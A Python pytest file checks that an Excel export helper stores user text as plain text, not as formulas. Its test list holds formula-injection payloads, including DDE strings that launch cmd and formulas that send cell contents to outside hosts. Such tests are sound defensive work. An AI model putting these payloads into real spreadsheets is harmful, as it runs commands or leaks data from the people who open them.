"""Formula injection: user text written through safe_cell comes back as text, in every writing mode."""

from __future__ import annotations

import zipfile

import pytest

from outreach_desk.services.excel import reader, safe_cell

INJECTIONS = [
    "=1+1", "=HYPERLINK(\"http://example.com/?q=\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
    "\n=1+1", "=cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "@cmd|'/C notepad'!A0", "==1", "=", "+", "-", "@",
    "-1", "+86 138 0000 0000", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"A1\")", "=1" + "+1" * 3000, "＝1+1", "普通文字 = 1", "=“中文引号”",
]


def _write(path, values, write_only: bool):
    from openpyxl import Workbook

    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("文本") if write_only else workbook.active
    if not write_only:
        sheet.title = "文本"
    for value in values:
        if write_only:
            sheet.append([safe_cell.text_cell(sheet, value)])
        else:
            cell = sheet.cell(sheet.max_row + 1 if sheet["A1"].value is not None else 1, 1)
            safe_cell.set_text(cell, value)
    workbook.save(path)


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_injection_corpus_comes_back_as_text(tmp_path, write_only):
    from openpyxl import load_workbook

    path = tmp_path / "注入.xlsx"
    _write(path, INJECTIONS, write_only)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(path)
    cells = [row[0] for row in workbook["文本"].iter_rows()]
    expected = [safe_cell.clean_text(v) for v in INJECTIONS]  # the same text; a CR is stored as LF
    assert [c.value for c in cells] == expected
    assert all(c.data_type == "s" for c in cells)
    for cell in cells:
        assert cell.quotePrefix == safe_cell.needs_quote(cell.value), cell.value
    source = reader.open_source(path)
    try:
        values = [row[0] for _n, row in source.rows("文本", max_col=1)]
    finally:
        source.close()
    assert values == expected and not any(isinstance(v, reader.Formula) for v in values)


def test_characters_xml_cannot_hold_are_replaced_not_fatal(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "ctl.xlsx"
    _write(path, ["响铃\x07结束", "NUL\x00", "ok\ttab\nline"], write_only=False)
    values = [row[0] for row in load_workbook(path).active.iter_rows(values_only=True)]
    assert values == ["响铃\ufffd结束", "NUL\ufffd", "ok\ttab\nline"]


def test_text_is_cut_to_excels_cell_limit():
    assert len(safe_cell.clean_text("长" * 40_000)) == safe_cell.EXCEL_MAX_TEXT
    assert safe_cell.needs_quote("\t1") and not safe_cell.needs_quote("1=1")
